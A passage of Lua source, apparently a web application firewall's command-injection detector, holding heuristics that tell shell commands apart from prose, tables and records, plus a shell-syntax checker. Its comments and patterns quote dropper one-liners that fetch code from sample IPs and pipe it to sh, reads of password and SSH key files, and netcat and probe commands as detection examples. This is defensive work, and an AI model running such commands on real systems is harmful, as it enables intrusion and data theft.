    if p and p >= 48 and p <= 57 then
        return false
    end
    local odd = false
    local at = next_quote(s, c, 1)
    while at and at <= z do
        odd = not odd
        at = next_quote(s, c, at + 1)
    end
    return odd
end


-- From i to z, words of letters only, two at least after the first, with
-- a sentence's punctuation between them ("Watch out for the dog", "Date
-- of the meeting: Monday"): no option, path, number, quote or variable a
-- command line would have.
local function prose_line(s, i, z)
    local line = sub(s, i, z)
    -- (an apostrophe inside a word, "don't"; a dot or a colon ending one:
    -- "file.txt" is a name, "-la" an option)
    if find(line, "[^%a%s,.:'%-]") or find(line, "[.:'][^%s]") or find(line, "[^%a]'")
            or find(line, "%f[%S]%-") then
        return false
    end
    local words = 0
    for _ in gmatch(line, "%a+") do
        words = words + 1
        if words >= 3 then
            return true
        end
    end
    return false
end


-- Does the text from i to z start with a word of the vocabulary?
local function starts_command(s, i, z)
    while byte(s, i) == 32 or byte(s, i) == 43 or byte(s, i) == 9 do
        i = i + 1
    end
    local w, j = read_word(s, i, z)
    -- (NAME=value; or a word a "," ends, "Sleep, Little Dragon": a
    -- title's or a sentence's)
    if w == "" or byte(s, j) == 61 or byte(s, j) == 44 then
        return false
    end
    -- (a name or two, then a spaced "=": a language's declaration, "type
    -- Props = {...};", "export type Id = string;", no shell's arguments)
    if find(s, "^[ \t]+[%a_][%w_]*[ \t]*=[ \t]", j)
            or find(s, "^[ \t]+%a+[ \t]+[%a_][%w_]*[ \t]*=[ \t]", j) then
        return false
    end
    w = basename(w)
    return PREFIX[w] or known(w) or windows_name(w, w) ~= nil
end


-- A command line a label introduces, from i to z: a few words and a
-- colon ("To list the rigs:", "Check:", "Runs at 02:00:"), then a word of the vocabulary or
-- a program given an option ("rigctl --list"): a note shows the line, as
-- one that starts with the command does.
local compound_at          -- (below, with the shell's loops and conditions)
local function labelled_command(s, i, z)
    -- (the label's 60 bytes only: a search to the value's end from each
    -- line's start was square in the number of lines)
    local c = find(sub(s, i, z < i + 61 and z or i + 61), ":[ \t]")
    if not c then
        return false
    end
    c = i + c - 1
    -- (a time's colons are the label's too: "Runs at 02:00:")
    local label = sub(s, i, c - 1)
    if find(label, ":", 1, true) then
        label = gsub(label, "(%d):(%d)", "%1%2")
    end
    if find(label, "[^%w%s'%-%.()\128-\255]") then
        return false
    end
    local k = c + 1
    while byte(s, k) == 32 or byte(s, k) == 9 do
        k = k + 1
    end
    -- (a client's prompt, "mysql> ...", is a transcript: read as one)
    if find(s, "^[%w_.-]+>", k) then
        return false
    end
    -- (or a loop or a condition closed, "Tip: for f in *.x; do ...;
    -- done": a script shown after its label, as at the value's start)
    return starts_command(s, k, z)
        or find(s, "^%a[%w_-]*[ \t]+%-%-?%a", k) ~= nil
        or compound_at(s, k)
end


-- A markdown table row: the line of the "|" at b starts and ends with
-- "|", and it is a table's (GFM: a table has a delimiter row,
-- "|---|---|") or has two cells at least ("| id | name |"). A lone cell
-- ("|id|") is two pipes around a command. Or any "|" of a value that
-- holds a psql table's delimiter row (psql_table).
-- A table as psql and ASCII tools print it: a "---+---" delimiter row on
-- a line of its own; its rows have no border at the line's ends.
local function psql_table(s)
    if not find(s, "-+-", 1, true) then
        return false
    end
    return find(s, "^[ \t]*%-%-+%+[%-%+]*[ \t]*\r?\n") ~= nil
        or find(s, "\n[ \t]*%-%-+%+[%-%+]*[ \t]*\r?\n") ~= nil
        or find(s, "\n[ \t]*%-%-+%+[%-%+]*[ \t]*$") ~= nil
end


-- The first byte of the line that holds byte i.
local function line_start(s, i)
    while i > 1 and byte(s, i - 1) ~= 10 do
        i = i - 1
    end
    return i
end


-- Whether the line that holds byte b is a table's row: (yes, k, e), the
-- answer for every "|" of the line before its last border k (e: the
-- line's end), so that the scan asks once a line and not once a "|" (a
-- row of thousands of cells read whole for each was square)
local HUGE = math.huge
-- ... or a GFM table written without its outer bars: a delimiter row of
-- its own ("-------|------|----", colons for alignment) on a line, and
-- every "|" of the value a cell's border ("free | Job 2291 | free")
local function bare_table(s)
    if not find(s, "-|", 1, true) and not find(s, "- |", 1, true) then
        return false
    end
    for line in gmatch(s, "[^\n]+") do
        if find(line, "^[ \t]*:?%-%-%-+:?[ \t]*|[ \t]*:?%-%-%-+:?[ \t]*[%-|: \t]*\r?$") then
            return true
        end
    end
    return false
end

-- (whole: psql_table or bare_table of the value, which the scan asks
-- once: a value of thousands of lines read whole again for each line was
-- square)
-- Whether the line from i to z is a GFM table's delimiter row
-- ("---|:---:|---", with or without its outer bars): the line after it is
-- the table's first row, cells, not a command after a token.
local function delimiter_row(s, i, z)
    if z - i > 400 or not find(s, "|", i, true) then
        return false
    end
    local row = sub(s, i, z)
    return find(row, "^[ \t]*|?[ \t]*:?%-%-%-+:?[ \t]*|[%-|: \t]*\r?$") ~= nil
end

local function table_row(s, b, n, whole)
    if whole then
        return true, HUGE, HUGE
    end
    local e = find(s, "\n", b, true) or n + 1
    local k = e - 1
    while k > b and (byte(s, k) == 32 or byte(s, k) == 13 or byte(s, k) == 9) do
        k = k - 1
    end
    if not (k > b and byte(s, k) == 124) then
        return false, HUGE, e
    end
    if find(s, "---", 1, true) and (find(s, "|[ \t]*:?%-%-%-+:?[ \t]*|")
                                    or find(s, "%-%-%-+:?[ \t]*|[ \t]*:?%-%-%-")) then
        return true, k, e
    end
    local a = line_start(s, b)
    while byte(s, a) == 32 or byte(s, a) == 9 do
        a = a + 1
    end
    if byte(s, a) ~= 124 then
        return false, k, e
    end
    local cells = 0
    for cell in gmatch(sub(s, a, k), "[^|]+") do
        if find(cell, "%S") then
            cells = cells + 1
            if cells >= 2 then
                return true, k, e
            end
        end
    end
    return false, k, e
end


-- One line's run of bare cells joined by the byte c with no blanks
-- around it, through the separator at b ("columns: ticket;date;truck;
-- gross;tare;net"): a delimited header or record, when it has four cells
-- or more (of the 64 read) and at most half of them are commands' names
-- ("route;date;units;weight_t": two words the shell knows, two it does
-- not; the probes' names are still list_cell's to refuse).
-- (a cell's words may stand a single blank apart, hold a "#" ("f#3", a
-- note's name) and, between ";", a decimal comma, and its last number
-- carry a unit's mark, "Plank 6'", "Pipe 2\"": a length's feet, a
-- size's inches; a blank beside a separator still ends the run)
local CELL_WORD = { [59] = "^[%w_.,#-]+", [124] = "^[%w_.#-]+" }
local function cell_byte(p, c)
    return p == 95 or p == 45 or p == 46 or p == 35 or (p == 44 and c == 59)
        or (p >= 48 and p <= 57) or (p >= 65 and p <= 90) or (p >= 97 and p <= 122)
end
local function cell_end(s, k, c)
    local _, e = find(s, CELL_WORD[c], k)
    for _ = 1, 16 do
        local q = e and byte(s, e + 1)
        if q == 32 and cell_byte(byte(s, e + 2) or 0, c) then
            _, e = find(s, CELL_WORD[c], e + 2)
        elseif (q == 39 or q == 34) and find(s, "^%d", e)
                and (byte(s, e + 2) == c or e + 1 == #s) then
            return e + 1
        else
            return e
        end
    end
    return e
end
local function delimited_line(s, b, c)
    -- (back to the run's start, at most 256 bytes: a run of thousands of
    -- cells, "a;a;a;...", is read from each of its separators)
    local a = b
    for _ = 1, 256 do
        local p = byte(s, a - 1)
        if not p or not (p == c or cell_byte(p, c)
                         or (p == 32 and cell_byte(byte(s, a - 2) or 0, c)
                             and cell_byte(byte(s, a), c))
                         or ((p == 39 or p == 34) and byte(s, a) == c
                             and find(s, "^%d", a - 2))) then
            break
        end
        a = a - 1
    end
    local cells, commands, k = 0, 0, a
    for _ = 1, 64 do
        local e = cell_end(s, k, c)
        if not e then
            break
        end
        local last = byte(s, e + 1) ~= c
        local w = lower(match(s, "^[%w_.-]*", k))
        cells = cells + 1
        if STRONG[w] or WEAK[w] or INTERPRETERS[w] then
            commands = commands + 1
        end
        if last then
            break
        end
        k = e + 2
    end
    return cells >= 4 and commands * 2 <= cells
end

-- ... and the word at j, one of its cells, is a column's name: no probe
-- ("id", "whoami"), interpreter or distinctive command, which still run
local function list_cell(s, b, c, j)
    if not delimited_line(s, b, c) then
        return false
    end
    local cell = lower(match(s, "^[%w_.-]*", j))
    return cell ~= "id" and not INTERPRETERS[cell] and not LONE[cell]
        and not (STRONG[cell] and not PROSE[cell])
end


-- Records of a delimited export, ";" or "|" between fields, two lines
-- of two separators or more enough (edge.waf.match.delimited_records):
-- its separators are cell borders, as a table's bars are (a strong name
-- in a cell still counts). (Asked once a value.)
local RECORD_SEPS = { ";", "|" }
local function delimited_records(s)
    return waf_match.delimited_records(s, RECORD_SEPS, true)
end


-- A list of choices written with spaced bars, "h2 | mysql | sqlite |
-- mongodb", 'action: "click" | "type" | "wait";': three words or more,
-- quoted or not, each alone between its bars. A pipeline of bare names
-- with no arguments reads nothing and writes nowhere; but a probe's name
-- among them ("x | whoami | y") still counts. a: where the list's first
-- word starts.
-- (or each word with a number after it, a count's or a reading's list,
-- "bolts 40 | rivets 12 | ss 8": a number is no argument those
-- commands take; but a delay given one, "| sleep 4 |", is a probe's)
-- (its patterns and helpers in a block of their own: the module's main
-- chunk is near Lua's limit of 200 locals)
local choice_list
do
    local CHOICE = "^([\"']?)([%w_.-]+)%1[ \t]+|[ \t]+"
    local CHOICE_LAST = "^([\"']?)([%w_.-]+)%1[ \t]*"
    local CHOICE_NUM = "^([\"']?)([%w_.-]+)%1[ \t]+%d[%d.,]*[ \t]+|[ \t]+"
    local CHOICE_NUM_LAST = "^([\"']?)([%w_.-]+)%1[ \t]+%d[%d.,]*[ \t]*"
    local DELAYS = set([[sleep usleep ping timeout]])
    -- (the last one ends the line, or a type's or a list's member: ";", ",",
    -- ")", "}", "]" after it)
    local function ends_list(s, e)
        local c = byte(s, e + 1)
        return c == nil or c == 10 or c == 13 or c == 59 or c == 44 or c == 41 or c == 125
            or c == 93
    end
    function choice_list(s, a)
        local k, words = a, 0
        for _ = 1, 32 do
            local _, e, _, w = find(s, CHOICE, k)
            local num = false
            if not w then
                _, e, _, w = find(s, CHOICE_NUM, k)
                num = w ~= nil
            end
            local last = w == nil
            if last then
                _, e, _, w = find(s, CHOICE_LAST, k)
                if not (w and ends_list(s, e)) then
                    _, e, _, w = find(s, CHOICE_NUM_LAST, k)
                    num = w ~= nil
                end
                if not (w and ends_list(s, e)) then
                    return false
                end
            end
            if LONE[w] or w == "id" or (num and DELAYS[w]) then
                return false
            end
            if last then
                return words >= 2
            end
            words = words + 1
            k = e + 1
        end
        return false
    end
end

local SEP = [=[[;|&`\n\r]|\\[nr]]=]
_M.SEP = SEP

-- SEP's next match from byte i (b, e; nil when none) by a byte table: a
-- regex call per separator cost an FFI call and a PCRE run each, seven on
-- a prose note with a few ";" and "&" (tests/test_35_waf_gates.py
-- requires the same answers as the regex).
local SEP_BYTE = ffi.new("uint8_t[256]")
for _, c in ipairs({ 59, 124, 38, 96, 10, 13 }) do      -- ; | & ` \n \r
    SEP_BYTE[c] = 1
end
local uint8_ptr = ffi.typeof("const uint8_t *")


local function next_sep(s, i)
    local p = ffi.cast(uint8_ptr, s)
    local n = #s
    for k = i - 1, n - 1 do
        local c = p[k]
        if SEP_BYTE[c] ~= 0 then
            return k + 1, k + 1
        end
        if c == 92 and k + 1 < n and (p[k + 1] == 110 or p[k + 1] == 114) then
            return k + 1, k + 2
        end
    end
    return nil
end
_M.next_sep = next_sep


-- next_sep, but a written line end inside a command word is no break
-- (line_end_at: "u\name" is uname)
local function next_break(s, i)
    local from = i
    while true do
        local b, e = next_sep(s, from)
        if not b or byte(s, b) ~= 92 or line_end_at(s, b, #s, i) then
            return b, e
        end
        from = e + 1
    end
end

-- A backtick span is markdown code when it stands as a word in text
-- (after a space, "(" or the start; before a space, punctuation or the
-- end) and is not the whole value; otherwise a command substitution.
-- A "." glued to a name that code goes on from (the end, an operator, a
-- call) is a method call on the command's output (Ruby's `id`.to_s,
-- `id`.split(" ")), no full stop; a name then a word is a sentence after
-- a missing space ("`make`.then rebuild").
local function after_span(s, k)
    local c = byte(s, k)
    if c == 46 then
        local _, e = find(s, "^[%a_][%w_]*", k + 1)
        return e == nil or find(s, "^%s+%a", e + 1) ~= nil
    end
    -- (or text in a script that puts no blank between words, Japanese or
    -- Chinese: a byte of a character above ASCII)
    return c == nil or c == 32 or c == 9 or c == 10 or c == 13
        or c == 44 or c == 59 or c == 58 or c == 33 or c == 63 or c == 41
        or c == 39 or c == 34 or c >= 128
end


local function only_quotes(s, i, z)
    for k = i, z do
        local c = byte(s, k)
        if not (c == 32 or c == 39 or c == 34 or c == 9 or c == 10 or c == 13) then
            return false
        end
    end
    return true
end


-- A reST role right before the backtick at b (":func:`x`"), itself at
-- the start of the value or after a space.
local function rest_role(s, b)
    if byte(s, b - 1) ~= 58 then
        return false
    end
    local k = b - 2
    while k > 0 do
        local c = byte(s, k)
        if c == 58 then
            return k == 1 or byte(s, k - 1) == 32 or byte(s, k - 1) == 9
                or byte(s, k - 1) == 10
        end
        if not ((c >= 97 and c <= 122) or (c >= 48 and c <= 57) or c == 45 or c == 95
                or c == 46 or c == 43) then
            return false
        end
        k = k - 1
    end
    return false
end


-- The shell reads a whole line before it runs any of it: a line it
-- cannot parse runs nothing ("x;id)" is a syntax error, "id" never
-- runs). shell_rejects reads from the injected command's first byte j
-- to the end of its line (at most SYNTAX_SPAN bytes) the way sh and bash
-- tokenize it: quotes (one the value leaves open is closed by the
-- application, so the rest is text), backslash escapes, a comment from a
-- "#" that starts a word, `...` spans. It returns true at what both
-- shells reject: a ")" that closes nothing (the line before j may open
-- some: "$(a;id)"), a "(" glued to a word ("a(b"; "f()" defines a
-- function; "$(", "<(", ">(", "=(" open), an operator where a command
-- must stand (";;", "|;", "&;", "| |", "&&&"), or a redirection with no
-- target ("w>;"). A random token (a bot sensor's blob, an encrypted
-- value) almost always holds one of these soon after any ";w": the
-- command it seems to hold would never run. cmd.exe parses none of this,
-- so a command it runs after "&" or "|" (CMD_CAPABLE) is never vetoed.
local SYNTAX_SPAN = 400
local SHELL_KEYWORD = set([[
    if then else elif do while until ! time { exec command builtin nohup
    ]])


-- bytes that end a word and may start an operator
local function operator_byte(c)
    return c == 59 or c == 124 or c == 38 or c == 60 or c == 62
end

local function blank(c)
    return c == 32 or c == 9
end

-- a "(" right after these opens: $( <( >( =(
local function opener(c)
    return c == 36 or c == 60 or c == 62 or c == 61
end

shell_rejects = function(s, from, j, n, line, sep, inside)
    if sep ~= 59 and sep ~= 10 then
        local w = read_word(s, j, n)
        if CMD_CAPABLE[basename(w)] then
            return false
        end
    end
    -- what the line before the separator leaves open may close after it
    -- (a "(" that opens: "$(", "<(", ">(", "=(", or a subshell's where a
    -- command stands: at the line's start or after ; | & ( and blanks)
    local open = 0
    for k = line, from - 1 do
        local c = byte(s, k)
        if c == 40 then
            local p = k > line and byte(s, k - 1) or 59
            if not opener(p) then
                local q = k - 1
                while q >= line and blank(byte(s, q)) do
                    q = q - 1
                end
                p = q >= line and byte(s, q) or 59
            end
            if opener(p) or p == 40 or p == 59 or p == 124 or p == 38 then
                open = open + 1
            end
        elseif c == 41 and open > 0 then
            open = open - 1
        end
    end
    local depth = 0
    local z = from + SYNTAX_SPAN
    if z > n then
        z = n
    end
    local k = from
    local word = true               -- the next byte starts a word
    local expect = false            -- an operator was read: a command must follow
    local cmdpos = true             -- a word here would be a command's name
    local ws = from                 -- where the current word started
    while k <= z do
        local c = byte(s, k)
        if c == 10 or c == 13 then
            return false
        elseif c == 92 then                                   -- \
            local d = byte(s, k + 1)
            if d == 110 or d == 114 then                      -- a written line end
                return false
            end
            if word then
                ws = k
            end
            k = k + 2
            word, expect = false, false
        elseif c == 39 then                                   -- '
            if word then
                ws = k
            end
            local close = find(s, "'", k + 1, true)
            if not close then
                return false
            end
            k = close + 1
            word, expect = false, false
        elseif c == 34 or c == 96 then                        -- " `
            local q = c == 34 and '"' or "`"
            if word then
                ws = k
            end
            local close = find(s, q, k + 1, true)
            while close and byte(s, close - 1) == 92 do
                close = find(s, q, close + 1, true)
            end
            if not close then
                return false
            end
            k = close + 1
            word, expect = false, false
        elseif c == 35 and word then                          -- # comment
            return false
        elseif blank(c) then
            -- a word ends: after a name, arguments follow (a keyword or
            -- an assignment leaves the command's place open)
            if not word and not SHELL_KEYWORD[sub(s, ws, k - 1)]
                    and not find(s, "^[%w_]+=", ws) then
                cmdpos = false
            end
            k = k + 1
            word = true
        elseif c == 40 then                                   -- (
            if opener(byte(s, k - 1)) or (word and cmdpos) then
                depth = depth + 1                             -- $( <( >( =( (subshell
                k = k + 1
            elseif find(s, "^%([ \t]*%)", k) then              -- f(), f ()
                k = find(s, ")", k, true) + 1
            else
                return true                                   -- a(b, "id (x"
            end
            word, expect, cmdpos = true, false, true
        elseif c == 41 then                                   -- )
            if depth > 0 then
                depth = depth - 1
            elseif open > 0 then
                open = open - 1
                if inside and open == 0 then
                    return false          -- the substitution read whole
                end
            else
                return true
            end
            k = k + 1
            word = false
        elseif operator_byte(c) then
            -- read the operator: the longest one sh knows
            local d = byte(s, k + 1)
            local op = 1
            if c == 59 and (d == 59 or d == 38) then
                return true                                   -- ;; ;& outside case
            elseif (c == 124 and (d == 124 or d == 38)) or (c == 38 and (d == 38 or d == 62))
                    or (c == 62 and (d == 62 or d == 124 or d == 38))
                    or (c == 60 and (d == 60 or d == 62 or d == 38)) then
                op = 2
                if c == 60 and d == 60 and byte(s, k + 2) == 60 then
                    op = 3                                    -- <<<
                end
            end
            local redirect = c == 60 or c == 62 or (c == 38 and d == 62)
            if expect and not redirect then
                return true                                   -- "| |", "&&&", "&;"
            end
            k = k + op
            while k <= z and blank(byte(s, k)) do
                k = k + 1
            end
            local e = byte(s, k)
            if redirect then
                -- a redirection needs a target word
                if e == nil then
                    return false
                end
                if operator_byte(e) or e == 41 then
                    return true
                end
                expect = false
            else
                expect, cmdpos = true, true
            end
            word = true
        else
            if word then
                ws = k
            end
            k = k + 1
            word, expect = false, false
        end
    end
    return false
end


-- An odd number of single quotes (or of quote q) from i to z.
local function odd_quotes(s, i, z, q)
    q = q or "'"
    local odd = false
    local k = find(s, q, i, true)
    while k and k <= z do
        odd = not odd
        k = find(s, q, k + 1, true)
    end
    return odd
end


-- A span that is all that follows one argument-like token ("42 `id`",
-- "x7 `uname -a`", or it and a separator): a substitution appended to the application's
-- argument. A code span stands in text ("Step 1 `ls`") or a list item
-- ("1. `npm ci`", "2) `make`", "- `git pull`"), whose marker ends in
-- punctuation.
local function argument_then_span(s, b, close)
    if not find(s, "^%s*$", close + 1) then
        return false
    end
    -- (or options alone before it, "-O2 -mcpu=cortex-m3 `uname -a`": a
    -- compiler's flags field)
    if b > 1 and find(sub(s, 1, b - 1), "^%s*%-[^%s`]*[%s%-%w=.,:/+]*$")
            and not find(sub(s, 1, b - 1), "%s[^%-%s]") then
        return true
    end
    if head_kind(s, 1, b - 1) ~= 2 then
        return false
    end
    local k = b - 1
    while k > 1 and byte(s, k) == 32 do
        k = k - 1
    end
    local c = byte(s, k)
    -- (or a separator after it: "42; `id`", "x7 && `id`" chain the span;
    -- or a closer: "f(2^64+1) `sleep 8`")
    return (c >= 48 and c <= 57) or (c >= 97 and c <= 122) or c == 59 or c == 124 or c == 38
        or c == 41 or c == 93
end


-- A markdown rule or a heading's underline from i to z: three or more
-- of one of - = * _ ~ # and nothing else but blanks.
local RULE_BYTE = { [45] = true, [61] = true, [42] = true, [95] = true, [126] = true,
                    [35] = true }


local function rule_line(s, i, z)
    while i <= z and (byte(s, i) == 32 or byte(s, i) == 9) do
        i = i + 1
    end
    local r = byte(s, i)
    if not RULE_BYTE[r] then
        return false
    end
    local count = 0
    for k = i, z do
        local c = byte(s, k)
        if c == r then
            count = count + 1
        elseif c ~= 32 and c ~= 9 and c ~= 13 then
            return false
        end
    end
    return count >= 3
end


-- A project's own script run by its path, alone from i to z
-- ("./configure", "./autogen.sh"): a name with no extension or a
-- script's. A data file ("./report.pdf") is an argument.
local SCRIPT_EXT = { sh = true, bash = true, py = true, pl = true, rb = true }


-- A transcript's line from i to z: a shell prompt ("$ ") and the command
-- a reader is shown after it ("$ ledgerctl -n 5 x.csv | sort -k3 | head", a
-- --help text's examples): a command line written for a reader, as one
-- that starts with a command word is, whatever its program's name.
local function prompt_line(s, i, z)
    local _, e = find(s, "^[ \t]*%$[ \t]+[%w./_~]", i)
    return e ~= nil and e <= z
end

-- So is a crontab's line from i to z: its five time fields (or @daily...)
-- and the command they schedule ("*/10 * * * * cd /opt/app && ./run.sh").
local RE_CRON_LINE = [=[\G[ \t]*(?:@(?:reboot|yearly|annually|monthly|weekly|daily|hourly)]=]
    .. [=[|[\d*][\d*/,-]*(?:[ \t]+[\d*?][\d*/,?lw#-]*){2}]=]
    .. [=[(?:[ \t]+(?:[\d*][\d*/,-]*|[a-z]{3}(?:-[a-z]{3})?)){2})[ \t]+[\w./~$]]=]

local function cron_line(s, i, z)
    local from, to = re_find(s, RE_CRON_LINE, "jo", { pos = i })
    if not from or to > z then
        return false
    end
    -- (a schedule has a "*" or is named: "1 2 3 4 5 x" is numbers)
    local star = find(s, "*", from, true)
    return (star ~= nil and star < to) or find(s, "^[ \t]*@", from) ~= nil
end


-- A line a reader is shown: after a prompt, or a crontab's.
local function written_line(s, i, z)
    return prompt_line(s, i, z) or cron_line(s, i, z)
end


local function script_line(s, i, z)
    while i <= z and (byte(s, i) == 32 or byte(s, i) == 9) do
        i = i + 1
    end
    if byte(s, i) ~= 46 or byte(s, i + 1) ~= 47 then
        return false
    end
    while z > i and (byte(s, z) == 32 or byte(s, z) == 9 or byte(s, z) == 13) do
        z = z - 1
    end
    local name = sub(s, i + 2, z)
    if not find(name, "^[%w_][%w_.-]*$") then
        return false
    end
    local ext = match(name, "%.(%w+)$")
    return ext == nil or SCRIPT_EXT[ext] == true
end


-- A shell loop or condition that is the whole value, from its first
-- byte and closed ("for h in a b; do ssh \"$h\" uptime; done", "while
-- read l; do ...; done < hosts.txt", "if [ -f x ]; then ...; fi"): a
-- script written for a reader, as a command line at the start is. Put
-- after an application's own command and its arguments, its "do" or
-- "then" stands where no compound command was opened: the shell rejects
-- the whole line and runs nothing of it. Run as written (an argument
-- named for a command, a header) it is the attack itself (commands()).
-- A substitution in it still runs wherever it stands
-- (substitution_commands), and after a line end or a separator the same
-- words are an injected command.
local COMPOUND = {
    { "^for[ \t]+[%a_][%w_]*[ \t]+in[ \t][^\n]-[;\n]%s*do%s", "%f[%w_]done%f[^%w_]" },
    { "^while[ \t][^\n]-[;\n]%s*do%s", "%f[%w_]done%f[^%w_]" },
    { "^until[ \t][^\n]-[;\n]%s*do%s", "%f[%w_]done%f[^%w_]" },
    { "^if[ \t][^\n]-[;\n]%s*then%s", "%f[%w_]fi%f[^%w_]" },
}

local function compound_start(s, k)
    local c = byte(s, k)
    if c ~= 102 and c ~= 119 and c ~= 117 and c ~= 105 then   -- f w u i
        return false
    end
    for i = 1, #COMPOUND do
        local e = COMPOUND[i]
        local _, z = find(s, e[1], k)
        if z then
            return find(s, e[2], z) ~= nil
        end
    end
    return false
end

-- the same from i, after blanks
function compound_at(s, i)
    while byte(s, i) == 32 or byte(s, i) == 9 do
        i = i + 1
    end
    return compound_start(s, i)
end
-- The command positions of a value, read in order: 2 when a command is
-- injected (rce-command), 1 when the value or one of its lines is a
-- command line (rce-command-line), false otherwise. Names and keys have
-- no command at their start, only after a separator.
-- A name written as a product's, at j of the value as written (dec; s
-- lower-cased): blanks, a capital and lower-case letters (or capitals
-- alone, then words or nothing), then words
-- alone (letters, digits, blanks, ".,+()[]@!?:" and non-ASCII
-- letters) up to the next separator or the end; not a name cmd.exe or
-- PowerShell runs whatever its case, nor their delay. After a breakout
-- (a separator that opens the value), only a menu label's accelerator.
local function title_words(dec, s, j, breakout)
    local b, e = find(dec, "^[ \t]*%u%l+[%l%d]*", j)
    -- (or an abbreviation in capitals, "bring a laptop & ID", "; IRB
    -- approval": words or nothing after it; a single capital too, a
    -- scorecard's "| W |" seat)
    local caps = false
    if not e then
        b, e = find(dec, "^[ \t]*%u+%f[^%w]", j)
        if not e then
            return false
        end
        caps = true
    end
    -- (the whole word: cmd.exe reads "IpConfig" as ipconfig, case and all)
    local name = match(s, "^[ \t]*([%w.]*%w)", b)
    if CMD_CAPABLE[name] or name == "sleep" or name == "start" then
        return false
    end
    local stop = find(dec, "[;|&\r\n]", e + 1) or #dec + 1
    local rest = sub(dec, e + 1, stop - 1)
    -- (or a menu label's accelerator: "&" glued to a capitalized word,
    -- then capitalized words alone to the value's end, "&File", "&Open
    -- Recent...", "Save &As")
    -- (glued: a blank after the "&" makes it a chain, "k & SystemInfo")
    if not caps and b == j and byte(dec, j - 1) == 38 and stop > #dec
            and not find(dec, "^[ \t]", j) then
        local label = gsub(gsub(rest, "%.%.%.$", ""), "\226\128\166$", "")
        if find(label, "^[ \t%u%l%d]*$") and not find(label, "[ \t]%l") then
            return true
        end
    end
    if breakout then
        return false
    end
    -- (an abbreviation in capitals before numbers or words, "; NL 2 and
    -- PS 4 signed": no Unix shell finds a program so spelled, and
    -- no path, option, quote or shell syntax follows it)
    if caps and not find(rest, "[/\\$`<>|&;'\"*=~%-]") then
        return true
    end
    -- (a word after it, and no host or address among them: "Nc
    -- 198.51.100.3 9001", "Curl x.example" are a case-blind system's
    -- commands; a number sign before a word and a hyphen inside one are
    -- a label's, "tag #C-5521", not a comment or an option)
    rest = gsub(gsub(rest, "(%w)%-(%w)", "%1%2"), "#(%w)", "%1")
    return (find(rest, "^[ \t]+%a") ~= nil or (caps and not find(rest, "%S")))
        and not find(rest, "[^%w%s.,+()%[%]@!?:\128-\255]") and not find(rest, "%.[^%s]")
end

-- A span that fetches a file from an address and runs it ("`wget -qO
-- /tmp/x http://198.51.100.7/x && sh /tmp/x`", "`curl -s
-- http://10.1.1.1/s | bash`"): a dropper, whatever text stands around
-- it; a manual's install line names its host ("curl -fsSL
-- https://get.example.com | sh").
local RE_FETCH_RUN = [=[^\s*(?:wget|curl|fetch)\s[^`]*?\b(?:https?|ftp)://\d{1,3}(?:\.\d{1,3}){3}]=]
    .. [=[[^`]*?(?:\|\s*(?:ba|z|da)?sh\b|&&\s*(?:(?:ba|z|da)?sh|chmod)\s|;\s*(?:(?:ba|z|da)?sh]=]
    .. [=[|chmod)\s)]=]
    -- (or from any host into a file of a temporary directory, then the
    -- same file run or made executable, "`curl -o /tmp/x h.example/x &&
    -- sh /tmp/x`": a dropper's two steps; an install line saves its
    -- script where the reader works, "-o get.sh && sh get.sh")
    .. [=[|^\s*(?:wget|curl|fetch)\s[^`]*?(?:-o|-O|>)\s*((?:/var)?/tmp/[^\s;&|`]+|/dev/shm/]=]
    .. [=[[^\s;&|`]+)[^`]*?(?:;|&&|\|\|)\s*]=]
    .. [=[(?:(?:ba|z|da)?sh\s+|chmod\s+\S+\s+|\.\s+)?\1(?=$|[\s;&|`])]=]

-- A span that names a system's secret file ("`cat /etc/passwd`" after
-- words, "print `cat /etc/shadow`;"): what a substitution reads out, no
-- word of the text around it ("the file `/etc/passwd`" names it).
local function span_reads_secret(s, from, to)
    local t = sub(s, from, to)
    if find(t, "^%s*[/~]") then
        return false                    -- the path alone, named
    end
    return find(t, "/etc/passwd", 1, true) ~= nil or find(t, "/etc/shadow", 1, true) ~= nil
        or find(t, "/proc/self/environ", 1, true) ~= nil or find(t, "/.ssh/id_", 1, true) ~= nil
end


-- A span that is only a host-information probe, with options at most,
-- and ends the value after a word ("... `id`", "... `uname -a`" after a
-- field's words): what a substitution appended runs to show it ran; a
-- sentence goes on or ends with its stop ("excludes `id`.", "`id`
-- column"; a ";" after it ends a command line, "echo `id`;"). So is a
-- host's file read out ("cat /etc/hostname"), a name looked up in the
-- DNS (nslookup, dig: the lookup tells the name's server it ran), or a
-- delay alone, "sleep" and a number of seconds ("Row
-- 7 (B) `sleep 6`"), a blind probe's: the answer's time says it ran.
-- A command that tells who or where it runs, or what a file holds, or
-- waits, with nothing but options after it: a probe's whole text
-- (probe_span's and the chain's last command's in scan_commands)
local function probe_text(t)
    if find(t, "^%s*sleep%s+%d+%.?%d*%s*$") or find(t, "^%s*cat%s+/etc/[%w._-]+%s*$")
            or find(t, "^%s*nslookup%s+[%w-]+%.[%w.-]+%s*$")
            or find(t, "^%s*dig%s+[%w-]+%.[%w.-]+%s*$") then
        return true
    end
    local _, e, w = find(t, "^%s*(%a+)")
    if not w or not (LONE[w] or w == "id") then
        return false
    end
    for arg in gmatch(sub(t, e + 1), "%S+") do
        if not (find(arg, "^%-%-?%a+$") or find(arg, "^/%a+$")) then
            return false
        end
    end
    return true
end

local function probe_span(s, from, to)
    -- (after a word or a closing parenthesis and a blank: a list's "3:
    -- `whoami`" names the command)
    if not find(s, "^`[%s;]*$", to + 1) or not find(s, "^[%w)] `", from - 3) then
        return false
    end
    return probe_text(sub(s, from, to))
end

-- The command after a line's ";" or "|" is a probe that ends the value,
-- and the line before it has no option, path or shell syntax, a
-- command's name in it only by chance ("nice job; whoami", "Batch 7 |
-- id"): a command line a runbook shows has them ("ip -br addr; ip route;
-- cat /etc/resolv.conf" goes on with its work), and "&&" runs what
-- follows when the line succeeded, a support request's sequence ("git
-- status && uname -a"); a year after sleep, "history & sleep 2018", is
-- a title's
local function probe_tail(s, i, b, j, n)
    local c = byte(s, b)
    if (c ~= 59 and c ~= 124) or n - j >= 60 or b - i >= 60 then
        return false
    end
    local head = sub(s, i, b - 1)
    return not find(head, "[/\\$=<>`|&;(){}]") and not find(head, "%f[%S]%-%-?%a")
        and not find(s, "^%s*sleep%s+%d%d%d%d", j) and probe_text(sub(s, j))
end


local function fetch_and_run(s, from, to)
    return to >= from and re_find(sub(s, from, to), RE_FETCH_RUN, "jo") ~= nil
end

-- A value that ends by opening a quote after a blank ("...; echo '"; a
-- quote after a ";" closes a string, "-c 'SELECT 1;'"), its quotes
-- otherwise paired: the application's closing
-- quote closes that one, so the value's first quote closed the
-- application's opening one; what starts with a command word is then no
